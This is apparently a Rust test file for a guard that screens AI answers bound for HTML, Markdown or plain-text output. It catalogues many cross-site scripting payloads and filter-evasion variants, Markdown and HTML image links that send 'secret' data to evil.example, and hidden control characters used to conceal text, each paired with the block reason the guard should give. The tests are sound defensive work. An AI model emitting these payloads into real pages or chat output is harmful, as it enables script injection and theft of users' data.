//! Answers that must not reach their sink as they are.

use aispm_guard::Reason::{self, *};
use aispm_guard::Sink;

use crate::support::{acted, judge, keys, pem};

/// Markup that a page must never get, with the reason the guard gives.
const HTML: &[(&str, Reason)] = &[
    ("<script>alert(1)</script>", DangerousElement),
    ("<SCRIPT SRC=//evil.example></SCRIPT>", DangerousElement),
    ("<scr\u{200B}ipt>alert(1)</script>", DangerousElement),
    ("<scr\u{0}ipt>alert(1)</script>", DangerousElement),
    ("<script\n>alert(1)</script>", DangerousElement),
    ("<script/x>alert(1)</script>", DangerousElement),
    ("text </script><script>alert(1)", DangerousElement),
    ("<img src=x onerror=alert(1)>", DangerousAttribute),
    ("<img/src=x/onerror=alert(1)>", MalformedMarkup),
    ("<img src=x\nonerror\n=\nalert(1)>", DangerousAttribute),
    ("<IMG SRC=x OnErRoR='alert(1)'>", DangerousAttribute),
    ("<img src=`x` onerror=alert(1)>", MalformedMarkup),
    ("<img \"x\" onerror=alert(1)>", MalformedMarkup),
    ("<p onclick=alert(1)>x</p>", DangerousAttribute),
    ("<div onmouseover=\"alert(1)\">x</div>", DangerousAttribute),
    ("<details open ontoggle=alert(1)>x</details>", DangerousAttribute),
    ("<a href=\"javascript:alert(1)\">x</a>", DangerousScheme),
    ("<a href=javascript:alert(1)>x</a>", DangerousScheme),
    ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", DangerousScheme),
    ("<a href=\"java\nscript:alert(1)\">x</a>", DangerousScheme),
    ("<a href=\"java&Tab;script:alert(1)\">x</a>", DangerousScheme),
    ("<a href=\"&#106;avascript:alert(1)\">x</a>", DangerousScheme),
    ("<a href=\"&#x6A;avascript:alert(1)\">x</a>", DangerousScheme),
    ("<a href=\"javascript&colon;alert(1)\">x</a>", DangerousScheme),
    ("<a href=\" javascript:alert(1)\">x</a>", DangerousScheme),
    ("<a href=\"vbscript:msgbox(1)\">x</a>", DangerousScheme),
    (
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        DangerousScheme,
    ),
    (
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        DangerousScheme,
    ),
    ("<a href=\"file:///etc/passwd\">x</a>", DangerousScheme),
    (
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        DangerousScheme,
    ),
    ("<img src=\"https://evil.example/?q=secret\">", ForeignHost),
    ("<img src=//evil.example/x>", ForeignHost),
    ("<img src=\"\\\\evil.example\\x\">", ForeignHost),
    ("<img src=\"/\\evil.example/x\">", ForeignHost),
    ("<img src=\"/\t/evil.example/x\">", ForeignHost),
    ("<img src=\"https:evil.example/x\">", ForeignHost),
    ("<img src=\"https:///evil.example/x\">", ForeignHost),
    (
        "<img src=\"https://docs.acme.example@evil.example/x\">",
        ForeignHost,
    ),
    (
        "<img src=\"https://docs.acme.example.evil.example/x\">",
        ForeignHost,
    ),
    ("<img src=\"https://evildocs.acme.example/x\">", ForeignHost),
    ("<img src=\"https://cdn.acme.example/x\">", ForeignHost),
    ("<img src=\"&#104;ttps://evil.example/x\">", ForeignHost),
    ("<img src=\"https&colon;&sol;&sol;evil.example/x\">", ForeignHost),
    (
        "<img src=\"https://docs.acme.example&unknown;evil/x\">",
        MalformedMarkup,
    ),
    ("<a href=\"https://evil.example/\">x</a>", ForeignHost),
    (
        "<blockquote cite=\"https://evil.example/\">x</blockquote>",
        ForeignHost,
    ),
    ("<img srcset=\"https://evil.example/ 2x\">", DangerousAttribute),
    (
        "<a ping=\"https://evil.example/\" href=\"/\">x</a>",
        DangerousAttribute,
    ),
    (
        "<table background=\"https://evil.example/\"><tr></tr></table>",
        DangerousAttribute,
    ),
    (
        "<div style=\"background:url(https://evil.example/)\">x</div>",
        DangerousAttribute,
    ),
    ("<div style=\"background:u\\72l(x)\">x</div>", DangerousAttribute),
    ("<div style=\"position:fixed;top:0\">x</div>", DangerousAttribute),
    (
        "<style>@import 'https://evil.example/';</style>",
        DangerousElement,
    ),
    ("<link rel=stylesheet href=//evil.example>", DangerousElement),
    (
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        DangerousElement,
    ),
    ("<base href=//evil.example/>", DangerousElement),
    ("<iframe srcdoc=\"&lt;script>\"></iframe>", DangerousElement),
    ("<object data=x></object>", DangerousElement),
    ("<embed src=x>", DangerousElement),
    ("<svg onload=alert(1)>", DangerousElement),
    (
        "<svg><animate href=#x attributeName=href values=javascript:1 />",
        DangerousElement,
    ),
    ("<math><mtext></mtext></math>", DangerousElement),
    (
        "<form action=//evil.example><input name=p></form>",
        DangerousElement,
    ),
    (
        "<button formaction=javascript:alert(1)>x</button>",
        DangerousElement,
    ),
    ("<input autofocus onfocus=alert(1)>", DangerousElement),
    ("<video src=//evil.example/x></video>", DangerousElement),
    ("<audio src=//evil.example/x></audio>", DangerousElement),
    (
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        DangerousElement,
    ),
    (
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
        DangerousElement,
    ),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        DangerousElement,
    ),
    ("<template><script>x</script></template>", DangerousElement),
    ("<x-card onclick=alert(1)>x</x-card>", DangerousElement),
    ("<svg:script>alert(1)</svg:script>", DangerousElement),
    ("<unknown onclick=alert(1)>", DangerousAttribute),
    ("<!--><img src=x onerror=alert(1)>-->", MalformedMarkup),
    ("<!-- a --!><img src=x onerror=alert(1)> -->", MalformedMarkup),
    ("<?xml-stylesheet href='//evil.example'?>", MalformedMarkup),
    ("<![CDATA[<img src=x onerror=alert(1)>]]>", MalformedMarkup),
];

/// Tags and declarations that a page completes with its own text after the answer.
const HTML_DANGLING: &[(&str, Reason)] = &[
    ("<img src=\"https://evil.example/?x=", MalformedMarkup),
    ("<a href='", MalformedMarkup),
    ("<p class", MalformedMarkup),
    ("<!-- never closed", MalformedMarkup),
    ("</ bogus>", MalformedMarkup),
];

/// Markdown that reaches out, runs, or hides from readers of Markdown.
const MARKDOWN: &[(&str, Reason)] = &[
    ("![x](https://evil.example/?q=secret)", ForeignHost),
    ("![x](  https://evil.example/?q=secret)", ForeignHost),
    ("![x](\nhttps://evil.example/)", ForeignHost),
    ("![a\nb](https://evil.example/)", ForeignHost),
    ("![x](<https://evil.example/>)", ForeignHost),
    ("![x](//evil.example/x)", ForeignHost),
    ("![x](\n//evil.example/x)", ForeignHost),
    ("> ![x](\n> //evil.example/x)", ForeignHost),
    ("![x](\\/\\/evil.example/x)", ForeignHost),
    ("![x](https\\://evil.example/x)", ForeignHost),
    ("![x](&#104;ttps://evil.example/x)", ForeignHost),
    ("![x](https&colon;//evil.example/x)", ForeignHost),
    ("![x](https://evil.example/x \"title\")", ForeignHost),
    ("[x](https://evil.example/)", ForeignHost),
    (
        "[![x](https://evil.example/a.png)](https://docs.acme.example/)",
        ForeignHost,
    ),
    (
        "[![x](https://docs.acme.example/a.png)](https://evil.example/)",
        ForeignHost,
    ),
    ("[x](https://docs.acme.example@evil.example/)", ForeignHost),
    ("[x](https://docs.acme.example.evil.example/)", ForeignHost),
    ("[x](https://docs.acme.example\\.evil.example/)", ForeignHost),
    ("[x](https:\\\\evil.example/)", ForeignHost),
    ("[x](javascript:alert(1))", DangerousScheme),
    ("[x](<javascript:alert(1)>)", DangerousScheme),
    ("[x](JAVASCRIPT:alert(1))", DangerousScheme),
    ("[x](&#106;avascript:alert(1))", DangerousScheme),
    ("[x](javascript&colon;alert(1))", DangerousScheme),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", DangerousScheme),
    ("[x](vbscript:x)", DangerousScheme),
    ("![x](data:image/svg+xml;base64,PHN2Zz4=)", DangerousScheme),
    ("![x][1]\n\n[1]: https://evil.example/x", ForeignHost),
    ("![x][1]\n\n[1]:\nhttps://evil.example/x", ForeignHost),
    ("![x][1]\n\n[1]:\n//evil.example/x", ForeignHost),
    ("![x][1]\n\n[1]: //evil.example/x", ForeignHost),
    ("![x][1]\n\n[1]: <//evil.example/x>", ForeignHost),
    ("[x][1]\n\n> [1]: javascript:alert(1)", DangerousScheme),
    ("<https://evil.example/>", ForeignHost),
    ("<javascript:alert(1)>", DangerousScheme),
    ("See https://evil.example/?q=1 for more", ForeignHost),
    ("See HTTPS://EVIL.EXAMPLE for more", ForeignHost),
    ("See www.evil.example/x for more", ForeignHost),
    ("See **www.evil.example** for more", ForeignHost),
    ("See ftp://evil.example/x for more", ForeignHost),
    ("See https://docs.acme.example)@evil.example/", ForeignHost),
    ("a\u{200B}![x](htt\u{2060}ps://evil.example/x)", ForeignHost),
    ("<script>alert(1)</script>", DangerousElement),
    ("text <img src=x onerror=alert(1)>", DangerousAttribute),
    ("<img src=\"https://evil.example/x\">", ForeignHost),
    ("- item\n- <iframe src=//evil.example></iframe>", DangerousElement),
    ("<a\nhref=\"javascript:alert(1)\">x</a>", DangerousScheme),
    ("<div\n\nonclick=alert(1)>", MalformedMarkup),
    (
        "<!-- x\n\n```\n-->\n<img src=x onerror=alert(1)>",
        MalformedMarkup,
    ),
    ("<?php x ?>", MalformedMarkup),
    // What readers of HTML and of Markdown nest differently.
    ("[x](https://docs.acme.example\\\\@evil.example/)", ForeignHost),
    ("[x](https://docs.acme.example\u{A0}@evil.example/)", ForeignHost),
    ("See https://docs.acme.example\"@evil.example/", ForeignHost),
    ("See https://docs.acme.example\\@evil.example/", ForeignHost),
    ("a <b title=\"[x](//evil.example)\"class>", MalformedMarkup),
    ("a <b/title=\"[x](//evil.example)\">", MalformedMarkup),
    ("a </b title=\"[x](//evil.example)\">", MalformedMarkup),
    ("a <x[y](javascript:alert(1))>", DangerousScheme),
    ("> <b\n> onclick=alert(1)>", MalformedMarkup),
    ("<div>x\na <b onclick=alert(1)\n\nb", MalformedMarkup),
    ("<div>x\na <K, onclick=alert(1)> b", MalformedMarkup),
    ("<dir onclick=alert(1)\n\nb", DangerousElement),
    ("`a\n\u{A0}\n` <img src=x onerror=alert(1)> `", DangerousAttribute),
    (
        "```\n```\u{A0}\n```\n<img src=x onerror=alert(1)>\n```",
        DangerousAttribute,
    ),
    (
        "<div><https://docs.acme.example/onclick=alert(1)>",
        MalformedMarkup,
    ),
    ("- <div><div[^a]\n> onclick=alert(1)>", MalformedMarkup),
    ("<b>\nx </[", MalformedMarkup),
    ("- <!--\n-->", MalformedMarkup),
    ("- [^a]: <div", MalformedMarkup),
    // What looks like code and is not.
    ("` <img src=x onerror=alert(1)>", DangerousAttribute),
    ("\\`<img src=x onerror=alert(1)>`", DangerousAttribute),
    ("`` a ` <img src=x onerror=alert(1)> `", DangerousAttribute),
    ("`a\n` <img src=x onerror=alert(1)> `", DangerousAttribute),
    (
        "| a |\n|---|\n| `x | <img src=x onerror=alert(1)> | y` |",
        DangerousAttribute,
    ),
    ("<div>`<img src=x onerror=alert(1)>`</div>", DangerousAttribute),
    ("- <div>`<img src=x onerror=alert(1)>`</div>", DangerousAttribute),
    (
        "<div>\n```\n<img src=x onerror=alert(1)>\n```",
        DangerousAttribute,
    ),
    ("<div>\\<img src=x onerror=alert(1)></div>", DangerousAttribute),
    (
        "<pre>\n\n```\n</pre><img src=x onerror=alert(1)>\n```",
        DangerousAttribute,
    ),
    ("> ```\n> x\n\n<img src=x onerror=alert(1)>", DangerousAttribute),
    ("> ```\n<img src=x onerror=alert(1)>", DangerousAttribute),
    (
        "- ```\n  x\n\n  ```\n  <img src=x onerror=alert(1)>",
        DangerousAttribute,
    ),
    ("- a\n  ```\n<img src=x onerror=alert(1)>", DangerousAttribute),
    (
        "1. a\n\n   ```\n   x\n\n<img src=x onerror=alert(1)>",
        DangerousAttribute,
    ),
    ("``` a`b\n<img src=x onerror=alert(1)>", DangerousAttribute),
    ("```\nx\n```\n<img src=x onerror=alert(1)>", DangerousAttribute),
    ("~~~\nx\n~~~~\n<img src=x onerror=alert(1)>", DangerousAttribute),
    (
        "````\n```\n````\n<img src=x onerror=alert(1)>",
        DangerousAttribute,
    ),
    ("a\n    ```\n<img src=x onerror=alert(1)>", DangerousAttribute),
    ("[^1]: ```\n<img src=x onerror=alert(1)>", DangerousAttribute),
    ("<b title=\"`\">x</b> <i> ` </i>", MalformedMarkup),
    ("[a](`) <img src=x onerror=alert(1)> `", DangerousAttribute),
    ("```mermaid\nclick A \"https://evil.example/\"\n```", ForeignHost),
    (
        "```mermaid\nA[<img src='https://evil.example/'>]\n```",
        ForeignHost,
    ),
];

/// Characters that hide text or move a cursor; the guard removes them.
const HIDDEN: &[&str] = &[
    "a\u{1B}[31mb",
    "a\u{1B}]8;;x\u{7}b",
    "a\u{9B}2Jb",
    "a\u{7}b",
    "a\u{8}\u{8}b",
    "over\rwritten",
    "a\u{7F}b",
    "a\u{0}b",
    "a\u{C}b",
    "a\u{B}b",
    "a\u{85}b",
    "a\u{90}b",
    "a\u{9D}b",
    "a\u{200B}b",
    "a\u{200C}b",
    "a\u{200D}b",
    "a\u{200E}b",
    "a\u{200F}b",
    "a\u{202A}b",
    "a\u{202B}b",
    "a\u{202C}b",
    "a\u{202D}b",
    "a\u{202E}b",
    "a\u{2066}b",
    "a\u{2067}b",
    "a\u{2068}b",
    "a\u{2069}b",
    "a\u{2060}b",
    "a\u{2061}b",
    "a\u{2062}b",
    "a\u{2063}b",
    "a\u{2064}b",
    "a\u{206A}b",
    "a\u{FEFF}b",
    "a\u{AD}b",
    "a\u{34F}b",
    "a\u{61C}b",
    "a\u{115F}b",
    "a\u{1160}b",
    "a\u{3164}b",
    "a\u{FFA0}b",
    "a\u{180E}b",
    "a\u{FE0F}b",
    "a\u{E0101}b",
    "a\u{E0041}\u{E0042}b",
    "a\u{E0001}b",
    "a\u{E007F}b",
    "a\u{FFF9}x\u{FFFB}b",
    "a\u{2028}b",
    "a\u{1D173}b",
    "\u{1F600}\u{FE0F}\u{FE0E}\u{FE0F}",
    "\u{1F3F4}\u{E0061}\u{E0062}\u{E0063}\u{E007F}",
    "\u{1F600}\u{200D}",
    "\u{1F600}\u{200D}a",
    "end\r",
];

#[test]
fn html_that_runs_or_reaches_out_is_stopped() {
    for (text, reason) in HTML.iter().chain(HTML_DANGLING) {
        let (out, stopped, done) = judge(Sink::Html, text);
        assert!(stopped && acted(&done, *reason), "{text:?}: {out:?} {done:?}");
        assert!(!out.contains('<'), "{text:?}: {out:?}");
    }
    assert!(HTML.len() + HTML_DANGLING.len() >= 60);
}

#[test]
fn markdown_that_runs_or_reaches_out_is_stopped() {
    for (text, reason) in MARKDOWN {
        let (out, stopped, done) = judge(Sink::Markdown, text);
        assert!(stopped && acted(&done, *reason), "{text:?}: {out:?} {done:?}");
        for part in [
            "evil.example",
            "EVIL",
            "onerror",
            "onclick",
            "javascript",
            "script>",
        ] {
            assert!(!out.contains(part), "{text:?}: {out:?}");
        }
    }
    assert!(MARKDOWN.len() >= 60);
}

#[test]
fn every_tag_that_html_stops_markdown_stops_too() {
    for (text, reason) in HTML.iter().filter(|(t, _)| !t.contains('\n')) {
        let (out, stopped, done) = judge(Sink::Markdown, &format!("Look:\n\n{text}\n\nDone."));
        assert!(stopped, "{text:?} ({reason:?}): {out:?} {done:?}");
    }
}

#[test]
fn hidden_characters_are_removed_from_every_sink() {
    for sink in [Sink::Html, Sink::Markdown, Sink::Plain] {
        for text in HIDDEN {
            let (out, stopped, done) = judge(sink, text);
            assert!(
                !stopped && acted(&done, Reason::HiddenText),
                "{text:?}: {out:?} {done:?}"
            );
            assert!(out.chars().count() < text.chars().count());
            assert!(
                !out.chars().any(|c| c.is_control() && c != '\n'),
                "{text:?}: {out:?}"
            );
        }
    }
}

#[test]
fn keys_are_masked_in_every_sink_and_place() {
    let mut all = keys();
    all.push(pem());
    for sink in [Sink::Html, Sink::Markdown, Sink::Plain] {
        for key in &all {
            for text in [
                key.clone(),
                format!("Your key is {key}, keep it."),
                format!("- `{key}`\n"),
                format!("```sh\nexport KEY={key}\n```\n"),
            ] {
                let (out, stopped, done) = judge(sink, &text);
                assert!(!stopped && acted(&done, Key), "{text:?}: {out:?} {done:?}");
                let tail = &key[key.len() / 2..key.len() / 2 + 12];
                assert!(!out.contains(tail), "{out:?}");
            }
        }
    }
}

#[test]
fn a_private_key_cut_short_is_masked() {
    let pem = pem();
    let cut = &pem[..pem.len() - 60];
    let (out, _, done) = judge(Sink::Plain, &format!("Here:\n{cut}"));
    assert!(acted(&done, Key), "{done:?}");
    assert!(!out.contains(&pem[40..60]), "{out}");
}

#[test]
fn a_mask_makes_no_link_with_the_text_beside_it() {
    for key in keys() {
        let (out, stopped, _) = judge(Sink::Markdown, &format!("x {key}(//evil.example/x)\n"));
        assert!(stopped, "{out}");
    }
}

/// A line longer than what may be held is judged in parts; a part is no line.
#[test]
fn a_long_line_closes_no_fence_and_ends_no_paragraph() {
    let blanks = " ".repeat(40 << 10);
    for text in [
        format!("```\nx\n```{blanks}x\n```\n<img src=x onerror=alert(1)>\n```\n"),
        format!("`a\n{blanks}b\n` <img src=x onerror=alert(1)> `\n"),
    ] {
        let (out, stopped, done) = judge(Sink::Markdown, &text);
        assert!(stopped && !out.contains("onerror"), "{done:?}");
    }
}
